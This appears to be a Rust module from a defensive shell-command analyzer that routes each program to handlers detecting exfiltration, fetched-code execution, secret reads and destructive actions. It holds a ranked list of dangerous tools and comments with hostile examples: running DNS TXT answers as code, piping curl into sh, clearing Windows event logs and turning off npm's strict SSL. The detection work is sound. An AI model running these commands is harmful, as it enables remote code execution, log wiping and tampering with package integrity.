//! Per-program knowledge: what each program does with its arguments, its stdin and the files it
//! names. [`run`] dispatches on the resolved program name; programs without a handler get
//! [`generic`] treatment (path-like operands are reads, stdin provenance flows to stdout).
//!
//! Option lists come from each program's manual page or `--help` (named in each handler).

mod builtins;
mod carriers;
pub(crate) mod cloud;
mod cloudshape;
pub(crate) mod code_shapes;
mod disk;
mod dynamic;
mod embedded;
pub(crate) mod exfil;
mod fanout;
mod fetched_run;
mod files;
mod interp;
mod keyread;
pub(crate) mod keys;
mod net;
mod public_parts;
/// What stdin carries for an upload's source (`net::stdin_source`), for `exports.rs`.
pub(crate) use net::stdin_source as stdin_source_of;
mod scope;
mod scripted;
mod search;
mod sinks;
mod snippet;
pub(crate) mod system;
mod tools;
pub(crate) mod vcs;
mod verbs;

use crate::analyzer::{Analyzer, Inv};
use crate::facts::Access;
use crate::model::{Arg, State, Stream};
use crate::paths;

pub(crate) use embedded::TEXT_ONLY;
pub(crate) use interp::Lang;
pub(crate) use snippet::socket_peers;

/// Shells: programs that read shell code from `-c`, a script file, or stdin.
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "pdksh", "ash", "yash", "posh", "rbash", "fish",
    "tcsh", "csh", "elvish", "nu", "xonsh",
];

/// True when `name` is a shell (`sh`, `bash`, `zsh`, …).
pub(crate) fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

/// Programs tried first when a globbed program name (`/???/r?`) is matched, most dangerous
/// first: the name an attacker would hide.
const GLOB_PRIORITY: &[&str] = &[
    "rm", "sh", "bash", "curl", "wget", "nc", "ncat", "python3", "python", "perl", "ruby", "node",
    "dd", "chmod", "chown", "mv", "cp", "cat", "base64", "xxd", "sudo", "su", "shred", "find",
    "tar", "zsh", "dash", "socat", "scp", "ssh", "rsync", "crontab", "kill", "pkill",
];

/// Program names the analyzer knows (used to pick the reading of look-alike letters and to
/// resolve globbed program names).
const KNOWN: &[&str] = &[
    "awk",
    "apt",
    "apt-get",
    "at",
    "aws",
    "az",
    "b2sum",
    "base32",
    "base64",
    "basename",
    "bat",
    "batcat",
    "batch",
    "bun",
    "bunx",
    "bzcat",
    "bzip2",
    "cargo",
    "cat",
    "cd",
    "chattr",
    "chgrp",
    "chmod",
    "chown",
    "chroot",
    "cmp",
    "comm",
    "cp",
    "crontab",
    "curl",
    "cut",
    "date",
    "dd",
    "deno",
    "diff",
    "doas",
    "docker",
    "dropdb",
    "droplang",
    "dropuser",
    "du",
    "echo",
    "env",
    "eval",
    "exec",
    "export",
    "fd",
    "file",
    "find",
    "fly",
    "flyctl",
    "gawk",
    "gcloud",
    "gem",
    "gh",
    "git",
    "gpg",
    "grep",
    "gsutil",
    "gunzip",
    "gzip",
    "head",
    "helm",
    "heroku",
    "http",
    "https",
    "install",
    "kill",
    "killall",
    "kubectl",
    "launchctl",
    "less",
    "ln",
    "ls",
    "make",
    "mkdir",
    "mktemp",
    "mv",
    "mysql",
    "nc",
    "ncat",
    "netcat",
    "node",
    "nohup",
    "npm",
    "npx",
    "od",
    "openssl",
    "parallel",
    "perl",
    "php",
    "pip",
    "pip3",
    "pipx",
    "pkexec",
    "pkill",
    "pnpm",
    "podman",
    "poetry",
    "printenv",
    "printf",
    "psql",
    "pwsh",
    "python",
    "python3",
    "redis-cli",
    "rev",
    "rg",
    "rm",
    "rmdir",
    "rsync",
    "ruby",
    "scp",
    "sed",
    "setsid",
    "sftp",
    "sh",
    "shred",
    "socat",
    "sort",
    "source",
    "sqlite3",
    "ssh",
    "stat",
    "su",
    "sudo",
    "systemctl",
    "tail",
    "tar",
    "tee",
    "telnet",
    "terraform",
    "timeout",
    "touch",
    "tr",
    "truncate",
    "twine",
    "unlink",
    "unzip",
    "uv",
    "uvx",
    "watch",
    "wc",
    "wget",
    "xargs",
    "xxd",
    "xz",
    "yarn",
    "zcat",
    "zip",
    "zsh",
    "zstd",
    "dash",
    "ksh",
    "fish",
    "tofu",
    "pulumi",
    "eval",
    "alias",
    "trap",
    "read",
    "set",
    "unset",
];

/// True when `name` is a program the analyzer knows by name.
pub(crate) fn is_known_program(name: &str) -> bool {
    // A hash set built once: a linear scan of the slices compared ~900 names per call, and
    // this runs for every word of every command (`embedded::carried_command`).
    static SET: std::sync::OnceLock<
        std::collections::HashSet<&'static str, foldhash::fast::RandomState>,
    > = std::sync::OnceLock::new();
    SET.get_or_init(|| KNOWN.iter().chain(SHELLS).copied().collect())
        .contains(name)
}

/// Shell glob match of a whole string: `*`, `?`, and bracket expressions (`[abc]`, `[a-z]`,
/// `[!x]`).
pub(crate) fn glob_match(pat: &str, s: &str) -> bool {
    let p: Vec<char> = pat.chars().collect();
    let t: Vec<char> = s.chars().collect();
    // Longer patterns are not program names; refusing them keeps the memo table small.
    if p.len() > 1024 || t.len() > 1024 {
        return false;
    }
    let mut memo = vec![None; (p.len() + 1) * (t.len() + 1)];
    glob_at(&p, &t, 0, 0, &mut memo)
}

/// Whether the bracket expression starting at `p[pi]` (`[`) matches `c`; returns the match and
/// the index after the closing `]`, or `None` when the bracket is not closed (then `[` is literal).
fn bracket(p: &[char], pi: usize, c: char) -> Option<(bool, usize)> {
    let close = p
        .iter()
        .skip(pi + 2)
        .position(|x| *x == ']')
        .map(|i| i + pi + 2)?;
    let set = p.get(pi + 1..close).unwrap_or(&[]);
    let (neg, set) = match set.first() {
        Some('!') | Some('^') => (true, set.get(1..).unwrap_or(&[])),
        _ => (false, set),
    };
    let mut hit = false;
    let mut i = 0;
    while i < set.len() {
        let a = set.get(i).copied().unwrap_or(' ');
        if set.get(i + 1) == Some(&'-') && i + 2 < set.len() {
            let b = set.get(i + 2).copied().unwrap_or(' ');
            hit |= a <= c && c <= b;
            i += 3;
        } else {
            hit |= a == c;
            i += 1;
        }
    }
    Some((hit != neg, close + 1))
}

/// Memoised matcher over (pattern index, text index): O(|p|·|t|) instead of the exponential
/// backtracking a run of `*` causes (found by `cargo fuzz run shell_analyze`: 28 `*` hung).
fn glob_at(p: &[char], t: &[char], pi: usize, ti: usize, memo: &mut [Option<bool>]) -> bool {
    let key = pi * (t.len() + 1) + ti;
    if let Some(Some(v)) = memo.get(key) {
        return *v;
    }
    let v = match p.get(pi) {
        None => ti == t.len(),
        Some('*') => (ti..=t.len()).any(|i| glob_at(p, t, pi + 1, i, memo)),
        Some('?') => ti < t.len() && glob_at(p, t, pi + 1, ti + 1, memo),
        Some('[') => match t.get(ti) {
            None => false,
            Some(&c) => match bracket(p, pi, c) {
                Some((hit, next)) => hit && glob_at(p, t, next, ti + 1, memo),
                None => c == '[' && glob_at(p, t, pi + 1, ti + 1, memo),
            },
        },
        Some(c) => t.get(ti) == Some(c) && glob_at(p, t, pi + 1, ti + 1, memo),
    };
    if let Some(slot) = memo.get_mut(key) {
        *slot = Some(v);
    }
    v
}

/// The known program a globbed name (`r?`, `c*l`, `[r]m`) would most plausibly run.
pub(crate) fn match_known_glob(pattern: &str) -> Option<String> {
    let base = paths::basename(pattern);
    GLOB_PRIORITY
        .iter()
        .chain(KNOWN.iter())
        .find(|k| glob_match(base, k))
        .map(|k| k.to_string())
}

/// Directories whose programs are the system's own: running them by path is not worth a
/// path fact.
fn is_system_bin(path: &str) -> bool {
    let dir = path.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    matches!(
        dir,
        "/bin"
            | "/usr/bin"
            | "/sbin"
            | "/usr/sbin"
            | "/usr/local/bin"
            | "/usr/local/sbin"
            | "/opt/homebrew/bin"
    )
}

/// The output of a program that transforms its stdin in ways not modelled: the provenance
/// of the input flows through, the text is unknown.
/// A whole command line written in Windows syntax (`crate::windows::is_windows_line`), read as
/// PowerShell code as its shell would run it: the interpreter scanner's download-and-run and
/// upload shapes, and the statements' effects by the Windows table (`crate::windows`).
pub(crate) fn windows_line(a: &mut Analyzer, command: &str) {
    let mut st = a.initial_state();
    let inv = Inv {
        args: Vec::new(),
        cwd: st.cwd.clone(),
        evidence: crate::analyzer::truncate(command, crate::analyzer::EVIDENCE_MAX),
        stdin: Stream::default(),
        wrappers: Vec::new(),
        env: Vec::new(),
        decls: Vec::new(),
    };
    snippet::scan(
        a,
        &inv,
        &mut st,
        "powershell",
        interp::Lang::PowerShell,
        command,
        "powershell",
        0,
    );
}

/// A Windows-only program (`wevtutil`, `vssadmin`, `netsh`, `bcdedit`…; `crate::windows`
/// `TOOLS`) met by the POSIX walk: inside a loop, a conditional, a function, `bash -c`,
/// `find -exec` or `xargs`, where the whole line's Windows reading (`windows_line`) does not
/// reach it, and with the walk's values of variables and loop words (`for l in Security System;
/// do wevtutil cl "$l"; done` runs `wevtutil cl Security` and `wevtutil cl System`). Its words
/// as the shell passes them are read by the Windows table as cmd would run them.
fn windows_program(a: &mut Analyzer, name: &str, inv: &Inv) {
    let lower = name.to_ascii_lowercase();
    let base = lower.strip_suffix(".exe").unwrap_or(&lower);
    if !crate::windows::TOOLS.contains(&base) {
        return;
    }
    let mut line = String::from(base);
    for w in inv.rest() {
        line.push(' ');
        if w.text.contains(char::is_whitespace) && !w.text.contains('"') {
            line.push('"');
            line.push_str(&w.text);
            line.push('"');
        } else {
            line.push_str(&w.text);
        }
    }
    crate::windows::run(a, &line, crate::windows::Dialect::Cmd, &inv.cwd, 1);
}

pub(crate) fn passthrough(inv: &Inv) -> Stream {
    Stream {
        text: None,
        taint: inv.stdin.taint.clone(),
        file: None,
        piped: false,
        shell_out: None,
        listing: inv.stdin.listing.clone(),
        walk: inv.stdin.walk,
        listed_name: None,
    }
}

/// Every program named in the data tables of `keys.rs`, `cloud.rs` and `disk.rs`, sorted (a
/// test checks both), so that the common case, a program in none of them, costs one binary
/// search instead of a scan of each table.
const TABLED: &[&str] = &[
    "algolia",
    "aliyun",
    "argo",
    "argocd",
    "asr",
    "aws",
    "az",
    "badblocks",
    "bao",
    "blkdiscard",
    "blkid",
    "borg",
    "borgbackup",
    "bq",
    "btrfs",
    "bup",
    "cdk",
    "cf",
    "cf7",
    "cf8",
    "cfdisk",
    "clusterctl",
    "conan",
    "consul",
    "cryptsetup",
    "diskutil",
    "docker-credential-acr-env",
    "docker-credential-desktop",
    "docker-credential-ecr-login",
    "docker-credential-gcloud",
    "docker-credential-gcr",
    "docker-credential-osxkeychain",
    "docker-credential-pass",
    "docker-credential-secretservice",
    "docker-credential-wincred",
    "doctl",
    "dokku",
    "dscl",
    "dumpe2fs",
    "duplicity",
    "e2fsck",
    "eksctl",
    "etcdctl",
    "faas-cli",
    "fastlane",
    "fdisk",
    "firebase",
    "flux",
    "fly",
    "flyctl",
    "fsck",
    "gcloud",
    "gdisk",
    "getent",
    "gh",
    "glab",
    "gpg",
    "gpg2",
    "gpgsm",
    "gpt",
    "gsutil",
    "hcloud",
    "hdparm",
    "helm",
    "heroku",
    "hf",
    "huggingface-cli",
    "ibmcloud",
    "influx",
    "k",
    "kafka-consumer-groups",
    "kafka-delete-records",
    "kafka-topics",
    "keytool",
    "kn",
    "kopia",
    "kubectl",
    "linode-cli",
    "lsblk",
    "lvremove",
    "mc",
    "mdadm",
    "mkdosfs",
    "mke2fs",
    "mkfs",
    "mkntfs",
    "mkswap",
    "mount",
    "nats",
    "neon",
    "neonctl",
    "netlify",
    "newfs",
    "newfs_apfs",
    "newfs_hfs",
    "nomad",
    "nvme",
    "oc",
    "oci",
    "openstack",
    "opentofu",
    "parted",
    "partx",
    "pass",
    "pscale",
    "pulsar-admin",
    "pulumi",
    "pvcreate",
    "pvremove",
    "rabbitmqadmin",
    "rabbitmqctl",
    "railway",
    "rclone",
    "rdiff-backup",
    "render",
    "restic",
    "rpk",
    "s3cmd",
    "sam",
    "scw",
    "secret-tool",
    "security",
    "sentry-cli",
    "serverless",
    "sfdisk",
    "sg_format",
    "sgdisk",
    "sls",
    "smartctl",
    "ssh-keygen",
    "supabase",
    "tarsnap",
    "terraform",
    "terragrunt",
    "tkn",
    "tmutil",
    "tofu",
    "tune2fs",
    "turso",
    "udevadm",
    "umount",
    "vault",
    "velero",
    "vercel",
    "vgcreate",
    "vgextend",
    "vgremove",
    "wal-g",
    "wipefs",
    "wrangler",
    "zfs",
    "zpool",
];

/// Whether `name` (or its family: `mkfs.xfs`, `fsck.ext4`, `newfs_apfs`) is in a data table.
fn has_table(name: &str) -> bool {
    let family = name.split(['.', '_']).next().unwrap_or(name);
    TABLED.binary_search(&name).is_ok()
        || (family.len() != name.len() && TABLED.binary_search(&family).is_ok())
}

/// Runs the handler for `name`.
pub(crate) fn run(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Stream {
    let from = a.facts.paths.len();
    let had = a.facts.remote_exec.len();
    let out = run_program(a, name, inv, st);
    // h-fetchrun28: fetched code run by a loader, a process substitution or Windows' tools
    fetched_run::observe(a, name, inv, had);
    // session 27: forms that show only a key's public part (public_parts.rs)
    public_parts::mark(a, name, inv, from);
    out
}

/// [`run`] before its public-part marking.
fn run_program(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Stream {
    embedded::carried_command(a, name, inv);
    carriers::observe(a, name, inv);
    keys::option_values(a, name, inv);
    if matches!(name, "gcore" | "procdump" | "gdb" | "lldb" | "ps") {
        keys::process_memory(a, name, inv);
    }
    scripted::editor_writes(a, name, inv);
    scripted::env_commands(a, name, inv, st);
    scripted::debugger_commands(a, name, inv, st);
    if let Some(first) = inv.args.first() {
        if first.text.contains('/') {
            if let Some(out) = exec_path(a, name, first, inv, st) {
                return out;
            }
        }
    }
    if is_shell(name) {
        return interp::shell(a, name, inv, st);
    }
    embedded::payload_words(a, name, inv);
    if !fanout::observe(a, name, inv, st) {
        embedded::cloud_remote_command(a, name, inv, st);
    }
    embedded::remote_display(a, name, inv);
    exfil::dns_query(a, name, inv);
    exfil::url_data(a, name, inv);
    exfil::api_posts(a, name, inv);
    system::observe(a, name, inv);
    crate::controls::observe_posix(a, name, inv);
    tools::kube_host_access(a, name, inv);
    search::observe(a, name, inv);
    keyread::observe(a, name, inv, st.captured);
    keyread::app_print(a, name, inv, st.captured);
    let local;
    let inv = match embedded::container_command(name, inv.rest())
        .or_else(|| embedded::kubectl_command(name, inv.rest()))
        .or_else(|| verbs::runner_command(name, inv.rest()))
    {
        Some((via, argv)) => {
            // The container's command is not this program's operands.
            let keep = inv.args.len().saturating_sub(argv.len());
            let mounts = if via.ends_with(" run") || via.ends_with(" create") {
                embedded::bind_mounts(a, inv)
            } else {
                Vec::new()
            };
            let saved = std::mem::replace(&mut a.mounts, mounts);
            embedded::run_remote_argv(a, inv, st, &via, argv);
            a.mounts = saved;
            let mut l = inv.clone();
            l.args.truncate(keep);
            local = l;
            &local
        }
        None => inv,
    };
    if embedded::VIM_PROGRAMS.contains(&name) {
        return embedded::vim(a, name, inv, st);
    }
    if name == "httpd" && inv.wrappers.iter().any(|w| w == "busybox" || w == "toybox") {
        exfil::file_server(a, "httpd", "", inv.rest(), inv);
    }
    if matches!(name, "http-server" | "serve") {
        exfil::file_server(a, name, "", inv.rest(), inv);
    }
    if name == "caddy" && inv.rest().first().is_some_and(|w| w.text == "file-server") {
        exfil::file_server(a, name, "file-server", &inv.rest()[1..], inv);
    }
    // Jupyter's servers serve their root folder's files to anyone with the URL (and the token,
    // which `--ServerApp.token=''` turns off): `jupyter lab|notebook|server --notebook-dir DIR`,
    // `--ServerApp.root_dir=DIR`, `--NotebookApp.notebook_dir=DIR` (Jupyter Server config
    // reference); with none the working folder.
    if let Some(rest) = jupyter_server(name, inv.rest()) {
        exfil::file_server(a, "jupyter", "", &jupyter_root(rest), inv);
    }
    if name == "ngrok" {
        // `ngrok http file:///DIR`: the tunnel serves the folder, not a local port.
        if let Some(dir) = inv.rest().iter().find_map(|w| {
            w.text
                .strip_prefix("file://")
                .map(|p| crate::opts::sub_arg(w, w.text.len() - p.len()))
        }) {
            exfil::file_server(a, "ngrok", "", &[dir], inv);
        }
    }
    if name == "go" {
        go_env_write(a, inv);
    }
    if matches!(name, "npm" | "pnpm" | "yarn" | "pip" | "pip3") {
        config_set_integrity(a, name, inv);
    }
    exfil::object_store(a, name, inv);
    exfil::p2p_send(a, name, inv);
    sinks::observe(a, name, inv);
    interp::notebook_from_url(a, name, inv);
    embedded::agent_mcp_add(a, name, inv, st);
    keys::secret_print(a, name, inv, st.captured);
    keys::config_value_print(a, name, inv, st.captured);
    keys::variable_print(a, name, inv, st.captured);
    cloudshape::observe(a, name, inv, st.captured);
    // `cmd /c "…"` run from a POSIX shell (WSL, Git Bash, MSYS): cmd gets the words as the
    // shell passes them (quotes removed, `\\` made `\`), read as cmd syntax.
    if matches!(name, "cmd" | "cmd.exe") {
        let words = inv.rest();
        if let Some(at) = words
            .iter()
            .position(|w| matches!(w.text.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r"))
        {
            let rest: Vec<&str> = words[at + 1..].iter().map(|w| w.text.as_str()).collect();
            if !rest.is_empty() && !words[at + 1..].iter().any(|w| w.dynamic) {
                crate::windows::run(
                    a,
                    &rest.join(" "),
                    crate::windows::Dialect::Cmd,
                    &inv.cwd,
                    1,
                );
            }
        }
    }
    windows_program(a, name, inv);
    dynamic::recipe_file(a, name, inv, st);
    cloud::http_delete(a, name, inv);
    verbs::http_destroy(a, name, inv);
    scope::observe(a, name, inv);
    verbs::script_runner(a, name, inv, st);
    let verb_rows = verbs::observe(a, name, inv);
    tools::sql_carriers(a, name, inv, st);
    tools::framework_db(a, name, inv);
    tools::framework_code(a, name, inv, st);
    if let Some(out) = builtins::run(a, name, inv, st) {
        return out;
    }
    if !has_table(name) && !verb_rows {
        cloud::unlisted(a, name, inv);
        scope::unlisted(a, name, inv);
    }
    if has_table(name) {
        keys::observe(a, name, inv, st.captured);
        cloud::observe(a, name, inv);
        if keys::public_only(name, inv) {
            keys::public_only_reads(a, name, inv);
            return passthrough(inv);
        }
        if let Some(out) = keys::key_generation(a, name, inv) {
            return out;
        }
        if let Some(out) = disk::run(a, name, inv) {
            return out;
        }
    }
    if let Some(out) = files::run(a, name, inv, st) {
        return out;
    }
    if let Some(out) = net::run(a, name, inv, st) {
        return out;
    }
    if let Some(out) = interp::run(a, name, inv, st) {
        return out;
    }
    if let Some(out) = vcs::run(a, name, inv, st) {
        return out;
    }
    if let Some(out) = tools::run(a, name, inv, st) {
        return out;
    }
    let mut out = generic(a, name, inv);
    if let Some(q) = exfil::dns_answer_source(name, inv) {
        // A DNS answer is text whoever runs the zone wrote (a TXT record most of all): run as
        // code (`source /dev/fd/0 <<< "$(dig +short TXT x.example)"`), it is fetched code.
        out.taint.fetched = Some(q);
    }
    out
}

/// `go env -w NAME=VALUE …` (`go help env`): writes the variables into Go's own environment
/// file, read by every later `go` command as if exported; each is judged as that assignment
/// (`GOSUMDB=off`, `GOFLAGS=-insecure`, `GOPROXY=…`).
fn go_env_write(a: &mut Analyzer, inv: &Inv) {
    let rest = inv.rest();
    if rest.first().map(|w| w.text.as_str()) != Some("env") || !rest.iter().any(|w| w.text == "-w")
    {
        return;
    }
    for w in rest.iter().skip(1).take(32) {
        if let Some((k, _)) = w.text.split_once('=') {
            if !k.starts_with('-') {
                let val = crate::model::Val::from_arg(&crate::opts::sub_arg(w, k.len() + 1));
                a.check_env(k, &val, &inv.evidence);
            }
        }
    }
}

/// A package manager's own settings command writing a download-integrity switch (npm-config
/// `strict-ssl`, yarn `enableStrictSsl`, pip-config `*.trusted-host`): judged as the variable
/// the setting stands for ([`crate::persist::is_tamper`]: `NPM_CONFIG_STRICT_SSL`,
/// `YARN_ENABLE_STRICT_SSL`, `PIP_TRUSTED_HOST`). `npm config set strict-ssl false`, `pip
/// config set global.trusted-host pypi.example.net`.
fn config_set_integrity(a: &mut Analyzer, name: &str, inv: &Inv) {
    let words: Vec<&str> = inv
        .rest()
        .iter()
        .map(|w| w.text.as_str())
        .filter(|w| !w.starts_with('-'))
        .take(4)
        .collect();
    let (key, value): (&str, &str) = match words.as_slice() {
        ["config", "set", kv] => match kv.split_once('=') {
            Some(pair) => pair,
            None => return,
        },
        ["config", "set", k, v, ..] => (k, v),
        _ => return,
    };
    let key = key.to_ascii_lowercase();
    let var = match key.as_str() {
        "strict-ssl" | "strict_ssl" if name != "pip" && name != "pip3" => "NPM_CONFIG_STRICT_SSL",
        "enablestrictssl" if name == "yarn" => "YARN_ENABLE_STRICT_SSL",
        k if (name == "pip" || name == "pip3") && k.ends_with(".trusted-host") => {
            "PIP_TRUSTED_HOST"
        }
        _ => return,
    };
    a.check_env(var, &crate::model::Val::known(value), &inv.evidence);
}

/// A program run by path (`./install.sh`, `/tmp/x`): an `exec` path fact, and the file's content
/// when it was written earlier in the same command. `Some` when fully handled here.
fn exec_path(
    a: &mut Analyzer,
    name: &str,
    first: &Arg,
    inv: &Inv,
    st: &mut State,
) -> Option<Stream> {
    let r = paths::resolve(first, &inv.cwd);
    if is_system_bin(&r.path) && !r.dynamic {
        // `/usr/bin/rm`: the program is the system's own, not worth a path fact.
        return None;
    }
    let ev = if first.raw.is_empty() {
        first.text.clone()
    } else {
        first.raw.clone()
    };
    a.add_path(&r, Access::Exec, "exec", false, &ev);
    let content = a.file_content(&r.path)?;
    let lang = interp::shebang_lang(content.text.as_deref().unwrap_or(""));
    Some(exec_stream(
        a,
        inv,
        st,
        name,
        &content,
        "downloaded_file",
        lang,
        None,
    ))
}

/// A shell script named as an operand (`source FILE`, `. FILE`, `bash FILE`, `sh <(curl …)`):
/// a process substitution or `/dev/stdin` runs that stream; a file this command line wrote
/// earlier runs its known content; anything else is an executed path (`how` names the
/// reader), and a file name that came out of fetched content is remote code execution.
pub(crate) fn exec_script_operand(
    a: &mut Analyzer,
    inv: &Inv,
    st: &mut State,
    name: &str,
    how: &str,
    file: &Arg,
    positional: Option<(&Arg, &[Arg])>,
) -> Stream {
    if let Some(ps) = &file.proc_subst {
        let ps = Stream::clone(ps);
        if ps.text.is_none() && dynamic::is_known_generator(&file.raw) {
            // `source <(kubectl completion bash)`: everyday set-up code.
            return Stream::default();
        }
        return exec_stream(
            a,
            inv,
            st,
            name,
            &ps,
            "process_substitution",
            Lang::Shell,
            positional,
        );
    }
    let r = paths::resolve(file, &inv.cwd);
    if matches!(
        r.path.as_str(),
        "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0"
    ) {
        let s = inv.stdin.clone();
        return exec_stream(a, inv, st, name, &s, "pipe", Lang::Shell, positional);
    }
    let ev = if file.raw.is_empty() {
        file.text.clone()
    } else {
        file.raw.clone()
    };
    a.add_path(&r, Access::Exec, how, false, &ev);
    if let Some(content) = a.file_content(&r.path) {
        return exec_stream(
            a,
            inv,
            st,
            name,
            &content,
            "downloaded_file",
            Lang::Shell,
            positional,
        );
    }
    if let Some(src) = &file.taint.fetched {
        a.remote_exec(
            "command_substitution",
            name,
            Some(src.clone()),
            &inv.evidence,
        );
    } else if file.dynamic && script_name_unknown(&file.text) {
        // `source "$1"`, `. "$SCRIPT_FILE"`, `bash "$X"`: which file runs is itself only
        // known at run time, so nothing can read it first (issue 11 item 2). A known file
        // name in a folder known at run time (`. "$NVM_DIR/nvm.sh"`, `source
        // "$(dirname "$0")/lib.sh"`) names its script and is not this.
        let origin = if file.from_subst {
            "substitution"
        } else if file.from_var {
            "variable"
        } else {
            "unknown"
        };
        a.dynamic_code(name, origin, Some(ev), &inv.wrappers, &inv.evidence);
    }
    Stream::default()
}

/// True when the file name (the last `/` component) of a script operand's text is only known
/// at run time: empty, or holding an expansion kept as written (`$1`, `${F}`, `$(…)`, a
/// backquote).
fn script_name_unknown(text: &str) -> bool {
    // The last `/` outside a substitution kept as written (`$(cat /tmp/which)` is one name).
    let mut depth = 0i32;
    let mut cut = 0;
    for (i, c) in text.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            '/' if depth <= 0 => cut = i + 1,
            _ => {}
        }
    }
    let name = &text[cut..];
    name.is_empty() || name.contains(['$', '`'])
}

/// Code that `interpreter` executes, given as a stream (stdin, a process substitution, a file
/// written earlier). Reports remote or decoded provenance, then analyses the text when known.
/// `kind` is the [`crate::RemoteExecFact`] kind used for fetched content.
#[allow(clippy::too_many_arguments)]
pub(crate) fn exec_stream(
    a: &mut Analyzer,
    inv: &Inv,
    st: &mut State,
    interpreter: &str,
    s: &Stream,
    kind: &str,
    lang: Lang,
    positional: Option<(&Arg, &[Arg])>,
) -> Stream {
    let evidence = if kind == "pipe" && s.piped && !a.pipeline_ev.is_empty() {
        a.pipeline_ev.clone()
    } else {
        inv.evidence.clone()
    };
    let kind = if kind == "pipe" && !s.piped && s.file.is_some() {
        "downloaded_file"
    } else {
        kind
    };
    if let Some(src) = &s.taint.fetched {
        a.remote_exec(kind, interpreter, Some(src.clone()), &evidence);
    }
    if let Some(dec) = &s.taint.decoded {
        a.decoded_exec(dec, interpreter, s.text.as_deref(), &evidence);
    }
    match &s.text {
        Some(code) => interp::run_lang_code(a, inv, st, interpreter, lang, code, positional),
        None => {
            if s.taint.fetched.is_none() && s.taint.decoded.is_none() {
                if let Some(f) = &s.file {
                    let r = paths::Resolved {
                        path: f.clone(),
                        dynamic: false,
                        glob: false,
                    };
                    a.add_path(&r, Access::Exec, interpreter, false, &inv.evidence);
                } else if kind == "downloaded_file" || kind == "process_substitution" {
                    dynamic::unseen_stream(a, inv, interpreter, s, kind, &evidence);
                } else if s.piped {
                    a.unanalysable(
                        &format!("{interpreter} reads code from stdin of unknown content"),
                        &evidence,
                    );
                    if !dynamic::is_known_generator(evidence.split('|').next().unwrap_or("")) {
                        dynamic::unseen_stream(a, inv, interpreter, s, kind, &evidence);
                    }
                }
            }
            Stream::default()
        }
    }
}

/// Shell code given as an argument (`bash -c CODE`, `eval CODE`, `flock … -c CODE`,
/// `npx -c CODE`): provenance of the argument is reported, then the code is analysed at
/// depth+1 under wrapper `name`.
pub(crate) fn shell_code(
    a: &mut Analyzer,
    inv: &Inv,
    st: &mut State,
    name: &str,
    code: &Arg,
    stdin: Option<Stream>,
) -> Stream {
    shell_code_with(
        a,
        inv,
        st,
        name,
        code,
        None,
        stdin.unwrap_or_else(|| inv.stdin.clone()),
    )
}

/// [`shell_code`] with positional parameters (`bash -c CODE NAME ARGS…`).
pub(crate) fn shell_code_with(
    a: &mut Analyzer,
    inv: &Inv,
    st: &mut State,
    name: &str,
    code: &Arg,
    positional: Option<(&Arg, &[Arg])>,
    stdin: Stream,
) -> Stream {
    if let Some(src) = &code.taint.fetched {
        a.remote_exec(
            "command_substitution",
            name,
            Some(src.clone()),
            &inv.evidence,
        );
    }
    if code.ansi_c && code.taint.decoded.is_none() && code.taint.fetched.is_none() {
        // `bash -c $'\x69\x64'`: printable code spelled as escapes is encoded on purpose.
        let payload = (!code.dynamic).then_some(code.text.as_str());
        a.decoded_exec("ansi-c quoting", name, payload, &inv.evidence);
    }
    if let Some(dec) = &code.taint.decoded {
        let payload = (!code.dynamic).then_some(code.text.as_str());
        a.decoded_exec(dec, name, payload, &inv.evidence);
    }
    if code.dynamic {
        if code.taint.fetched.is_none() {
            a.unanalysable(
                &format!("{name}: shell code only known at run time"),
                &code.raw,
            );
        }
        if code.text.contains("<stdin>") || code.known_prefix == 0 {
            dynamic::unseen_arg(a, inv, name, code);
            return Stream::default();
        }
    }
    a.run_code(&code.text, st, inv, name, positional, stdin)
}

/// Path-like operand: absolute, `./`/`../`-relative, or a dot-file (`.env`).
pub(crate) fn looks_like_path(t: &str) -> bool {
    !t.contains("://")
        && (t.starts_with('/')
            || t.starts_with("./")
            || t.starts_with("../")
            || (t.starts_with('.') && t.len() > 1 && !t.starts_with("..") && !t.contains('=')))
}

/// Programs without a handler: path-like operands are reads; stdin provenance flows through.
pub(crate) fn generic(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    let cwd = inv.cwd.clone();
    for arg in inv.rest().iter().take(64) {
        if arg.text.starts_with('-') {
            continue;
        }
        if looks_like_path(&arg.text) {
            if disk::names_device_only(name, &arg.text) {
                continue;
            }
            a.path_arg(&cwd, arg, Access::Read, name, false);
        }
    }
    passthrough(inv)
}

/// Reads every operand as a file (the `how` is the program name); `-` and no operands mean
/// stdin. Returns the concatenated content stream.
pub(crate) fn read_operands(
    a: &mut Analyzer,
    name: &str,
    inv: &Inv,
    operands: &[Arg],
    recursive: bool,
) -> Stream {
    if operands.is_empty() {
        return inv.stdin.clone();
    }
    let cwd = inv.cwd.clone();
    let mut out = Stream::text("");
    for op in operands.iter().take(256) {
        let s = if op.text == "-" && !op.dynamic {
            inv.stdin.clone()
        } else if let Some(ps) = &op.proc_subst {
            Stream::clone(ps)
        } else {
            let r = a.path_arg(&cwd, op, Access::Read, name, recursive);
            if r.dynamic {
                Stream {
                    taint: op.taint.clone(),
                    ..Stream::default()
                }
            } else {
                a.file_stream(&r.path)
            }
        };
        out = out.concat(&s);
    }
    out.piped = false;
    out
}

/// Shell-quotes one word for re-assembly into a command line.
pub(crate) fn sh_quote(s: &str) -> String {
    if !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:@,+%^~".contains(c))
    {
        return s.to_string();
    }
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// A new invocation of `argv` under `inv`'s context, with `wrapper` appended.
pub(crate) fn sub_inv(inv: &Inv, argv: Vec<Arg>, wrapper: &str) -> Inv {
    let mut next = inv.clone();
    next.args = argv;
    next.wrappers.push(wrapper.to_string());
    next.decls = Vec::new();
    next
}

/// The words after `jupyter lab|notebook|server` (or `jupyter-lab`, `jupyter-notebook`,
/// `jupyter-server`), when `name` starts a Jupyter server.
fn jupyter_server<'x>(name: &str, rest: &'x [Arg]) -> Option<&'x [Arg]> {
    match name {
        "jupyter-lab" | "jupyter-notebook" | "jupyter-server" => Some(rest),
        "jupyter" => {
            let first = rest.first()?;
